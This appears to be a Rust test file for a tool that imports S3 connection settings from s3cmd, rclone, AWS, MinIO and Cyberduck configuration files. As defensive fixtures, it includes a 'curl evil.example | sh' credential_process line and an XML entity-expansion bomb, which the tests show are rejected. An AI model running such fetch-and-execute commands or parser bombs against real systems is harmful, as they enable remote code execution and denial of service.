//! Files as those programs write them, and files that nobody should have written.

use base64::Engine as _;
use crypto_secretbox::aead::{Aead as _, KeyInit as _};
use crypto_secretbox::{Nonce, XSalsa20Poly1305};
use sha2::{Digest as _, Sha256};

use super::*;
use crate::{RoleSource, SsoWay};

fn with(kind: ImportKind, text: &str, password: Option<&str>) -> Result<Import> {
    let password = password.map(|p| Secret::new(p.to_owned()));
    let variable =
        |name: &str| (name == "DIPPER_TEST_SECRET").then(|| "from the environment".to_owned());
    let file =
        |name: &str| name.ends_with(".pem").then(|| Secret::new(format!("contents of {name}")));
    let given = Given { text, password: password.as_ref(), variable: &variable, file: &file };
    read(kind, &given)
}

#[track_caller]
fn fine(kind: ImportKind, text: &str) -> Import {
    with(kind, text, None).unwrap()
}

#[track_caller]
fn one(kind: ImportKind, text: &str) -> Found {
    let mut import = fine(kind, text);
    assert_eq!(import.found.len(), 1, "{:?}", import.notes);
    import.found.remove(0)
}

fn why_not<'a>(notes: &'a [Note], what: &str) -> Option<&'a str> {
    notes.iter().find(|note| note.what == what)?.why_not
}

fn keys(found: &Found) -> (&str, &str) {
    (&found.draft.access_key, found.draft.secret_key.expose())
}

#[test]
fn s3cfg_of_aws() {
    let found = one(ImportKind::S3cfg, include_str!("fixtures/aws.s3cfg"));
    assert_eq!((found.provider(), found.region()), ("aws", "eu-west-1"));
    assert_eq!(keys(&found), ("AKIAIOSFODNN7EXAMPLE", "from the environment"));
    assert_eq!(found.draft.session_token.as_ref().unwrap().expose(), "a token");
    assert!(found.options().requester_pays);
    assert_eq!(found.draft.addressing, Addressing::Auto);
    // What is only s3cmd's default is no loss.
    assert_eq!(why_not(&found.notes, "gpg_command"), None);
}

#[test]
fn s3cfg_of_an_own_server() {
    let found = one(ImportKind::S3cfg, include_str!("fixtures/own.s3cfg"));
    assert_eq!((found.provider(), found.endpoint()), ("custom", "http://s3.lan:7480"));
    assert_eq!(found.draft.addressing, Addressing::Path);
    assert!(found.draft.allow_http);
    let network = &found.options().network;
    assert_eq!(network.proxy, ProxyChoice::Url { url: "http://proxy.lan:8080".into() });
    assert_eq!(network.roots.as_deref(), Some("contents of ca.pem"));
    assert_eq!(network.client_certificate.as_deref(), Some("contents of me.pem"));
    assert_eq!(found.draft.client_key.as_ref().unwrap().expose(), "contents of key.pem");
    for left in
        ["gpg_passphrase", "encrypt", "signature_v2", "check_ssl_certificate", "storage_class"]
    {
        assert!(why_not(&found.notes, left).is_some(), "{left}");
    }
}

#[test]
fn s3cfg_without_keys_and_with_a_variable_that_is_not_there() {
    let found = one(
        ImportKind::S3cfg,
        "[default]\naccess_key = $NOBODY\nhost_base = h.example\nca_certs_file = gone\n",
    );
    assert_eq!(found.options().sign_in, Way::Environment);
    assert!(why_not(&found.notes, "access_key").is_some());
    assert!(why_not(&found.notes, "ca_certs_file").is_some());
    assert!(fine(ImportKind::S3cfg, "nothing\n").found.is_empty());
}

#[test]
fn rclone_plain() {
    let import = fine(ImportKind::Rclone, include_str!("fixtures/rclone.conf"));
    let by = |name: &str| import.found.iter().find(|f| f.name == name).unwrap();
    assert_eq!(import.found.len(), 4);
    assert_eq!(keys(by("wasabi")), ("AKW", "later secret"));
    assert_eq!(
        (by("wasabi").provider(), by("wasabi").endpoint()),
        ("wasabi", "https://s3.eu-central-1.wasabisys.com")
    );
    assert_eq!(by("cloud").options().sign_in, Way::AwsProfile { name: "work".into() });
    assert_eq!(by("cloud").provider(), "aws");
    let Way::Role(role) = &by("role").options().sign_in else { panic!("a role") };
    assert_eq!(
        (&role.source, role.role_arn.as_str()),
        (&RoleSource::Keys, "arn:aws:iam::1:role/r")
    );
    assert_eq!(by("guest").draft.addressing, Addressing::Path);
    assert!(!by("guest").has_keys());
    assert!(why_not(&by("wasabi").notes, "acl").is_some());
    assert!(why_not(&by("role").notes, "sse_customer_key").is_some());
    for left in ["[drive]", "[secret]", "[bare]", "[wasabi]"] {
        assert!(why_not(&import.notes, left).is_some(), "{left}");
    }
}

/// As rclone's `config/crypt.go` seals it.
fn sealed(plain: &str, password: &str) -> String {
    let key: [u8; 32] = Sha256::digest(format!("[{password}][rclone-config]")).into();
    let nonce = [7_u8; 24];
    let body =
        XSalsa20Poly1305::new(&key.into()).encrypt(&Nonce::from(nonce), plain.as_bytes()).unwrap();
    let packed = base64::engine::general_purpose::STANDARD.encode([&nonce[..], &body].concat());
    format!("# Encrypted rclone configuration File\n\nRCLONE_ENCRYPT_V0:\n{packed}\n")
}

#[test]
fn rclone_encrypted() {
    let text = sealed(
        "[a]\ntype = s3\nprovider = AWS\naccess_key_id = AK\nsecret_access_key = SK\n",
        "pass word",
    );
    let import = with(ImportKind::Rclone, &text, Some("pass word")).unwrap();
    assert_eq!(keys(&import.found[0]), ("AK", "SK"));
    for password in [None, Some("wrong"), Some("")] {
        let error = with(ImportKind::Rclone, &text, password).unwrap_err();
        assert_eq!(error.code, Code::DecryptFailed);
        assert!(!error.message.contains("SK"));
    }
    for bad in ["RCLONE_ENCRYPT_V0:\n!!!\n", "RCLONE_ENCRYPT_V0:\nAAAA\n", "RCLONE_ENCRYPT_V0:\n"] {
        assert_eq!(with(ImportKind::Rclone, bad, Some("x")).unwrap_err().code, Code::DecryptFailed);
    }
    let newer = with(ImportKind::Rclone, "RCLONE_ENCRYPT_V1:\nAAAA\n", Some("x")).unwrap_err();
    assert_eq!(newer.code, Code::Unsupported);
}

#[test]
fn aws_files_are_named_not_copied() {
    let config = include_str!("fixtures/aws-config");
    let credentials = include_str!("fixtures/aws-credentials");
    let import = aws::both(config, credentials, true);
    let by = |name: &str| import.found.iter().find(|f| f.name == name).unwrap();
    for name in ["default", "admin", "tool"] {
        assert_eq!(by(name).options().sign_in, Way::AwsProfile { name: name.into() });
        assert!(!by(name).has_keys(), "{name}");
    }
    let want = SsoWay {
        start_url: "https://corp.awsapps.com/start".into(),
        region: "us-east-1".into(),
        session: Some("corp".into()),
        account_id: "123456789012".into(),
        role_name: "Developer".into(),
        ..SsoWay::default()
    };
    assert_eq!(by("dev").options().sign_in, Way::Sso(want));
    assert_eq!(by("lab").endpoint(), "https://s3.lab.example");
    assert!(why_not(&import.notes, "[quiet]").is_some());
    let all = format!("{import:?}");
    assert!(!all.contains("hush") && !all.contains("/opt/keys"), "{all}");
}

/// A file that somebody sent can't make this program run a command.
#[test]
fn a_command_in_a_file_of_somebody_else_s() {
    let import = fine(
        ImportKind::Aws,
        "[profile nice]\nregion = eu-west-1\ncredential_process = curl evil.example | sh\n",
    );
    assert_eq!(import.found.len(), 1);
    assert!(import.found[0].unusable.is_some());
    assert_eq!(import.found[0].options().sign_in, Way::Keys);
    assert!(why_not(&import.found[0].notes, "credential_process").is_some());
    assert!(!format!("{import:?}").contains("evil"));
    // Nor in a format that has no such word.
    let rclone = "[x]\ntype = s3\nprovider = AWS\ncredential_process = sh\nenv_auth = true\n";
    let found = one(ImportKind::Rclone, rclone);
    assert!(why_not(&found.notes, "credential_process").is_some());
    assert_eq!(found.options().sign_in, Way::Environment);
}

#[test]
fn mc_aliases() {
    let import = fine(ImportKind::Mc, include_str!("fixtures/mc.json"));
    let by = |name: &str| import.found.iter().find(|f| f.name == name).unwrap();
    assert_eq!(keys(by("lab")), ("minio", "minio123"));
    assert_eq!((by("lab").provider(), by("lab").endpoint()), ("minio", "http://lab.example:9000"));
    assert_eq!(by("lab").draft.addressing, Addressing::Path);
    assert_eq!(keys(by("inline")), ("AK", "S/K"));
    assert_eq!(by("inline").endpoint(), "https://s3.example.com");
    assert!(why_not(&by("old").notes, "api").is_some());
    assert!(by("broken").unusable.is_some());
    assert!(why_not(&import.notes, "gcs").is_some());
    // Version 8 and before said `hosts`.
    let old = r#"{"version":"9","hosts":{"a":{"url":"https://a.example","accessKey":"k","secretKey":"s","api":"S3v4","lookup":"auto"}}}"#;
    assert_eq!(keys(&one(ImportKind::Mc, old)), ("k", "s"));
}

#[test]
fn cyberduck_bookmarks() {
    let found = one(ImportKind::Cyberduck, include_str!("fixtures/bookmark.duck"));
    assert_eq!((found.name.as_str(), found.endpoint()), ("Photos", "https://s3.example.com:8443"));
    assert_eq!(found.options().start.as_deref(), Some("photos/2026/"));
    assert!(found.unusable.is_some() && !found.has_keys());
    assert!(why_not(&found.notes, "password").is_some());
    let ftp = include_str!("fixtures/bookmark.duck")
        .replace("<string>s3</string>", "<string>ftp</string>");
    let import = fine(ImportKind::Cyberduck, &ftp);
    assert!(import.found.is_empty() && why_not(&import.notes, "Photos").is_some());
}

#[test]
fn what_is_none_of_it() {
    let kinds = [
        ImportKind::S3cfg,
        ImportKind::Rclone,
        ImportKind::Aws,
        ImportKind::Mc,
        ImportKind::Cyberduck,
    ];
    let bomb = "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY a \"aaaa\"><!ENTITY b \"&a;&a;\">]>\
                <plist version=\"1.0\"><dict><key>Hostname</key><string>&b;</string></dict></plist>";
    let deep = "[".repeat(100_000);
    let nested = format!("{{\"aliases\":{}", "{\"a\":".repeat(50_000));
    for kind in kinds {
        for text in
            ["", "\u{feff}", "=\n==\n[", "[]\n[]\n=x", bomb, &deep, &nested, "[a]\n[a]\n[a]\n"]
        {
            if let Ok(import) = with(kind, text, None) {
                assert!(import.found.iter().all(|f| !f.has_keys()), "{kind:?} {text:.30}");
            }
        }
        assert!(with(kind, "access_key = A\0B", None).is_err(), "{kind:?}");
    }
    assert!(with(ImportKind::Cyberduck, bomb, None).is_err());
    assert!(with(ImportKind::Mc, "{", None).is_err());
}

#[test]
fn a_million_lines_are_read_in_time() {
    let started = std::time::Instant::now();
    let mut text = String::from("[default]\n");
    while text.len() < LARGEST as usize {
        text.push_str("access_key = AKIAIOSFODNN7EXAMPLE\n");
    }
    fine(ImportKind::S3cfg, &text);
    fine(ImportKind::Rclone, &text);
    fine(ImportKind::Aws, &text);
    assert!(started.elapsed() < std::time::Duration::from_secs(20));
}

#[test]
fn names_can_t_move_a_cursor() {
    let found = one(ImportKind::Rclone, "[a\u{1b}[2Jb]\ntype = s3\nprovider = AWS\n");
    assert_eq!(found.name, "a[2Jb");
    let long = format!("[{}]\ntype = s3\nprovider = AWS\n", "x".repeat(5000));
    assert_eq!(one(ImportKind::Rclone, &long).name.len(), 200);
}

#[tokio::test]
async fn files_too_large_or_none_at_all() {
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("huge");
    std::fs::File::create(&path).unwrap().set_len(LARGEST + 1).unwrap();
    assert_eq!(contents(&path).await.unwrap_err().code, Code::InvalidInput);
    assert_eq!(contents(&folder.path().join("gone")).await.unwrap_err().code, Code::LocalIo);
    assert!(contents(folder.path()).await.is_err());
}
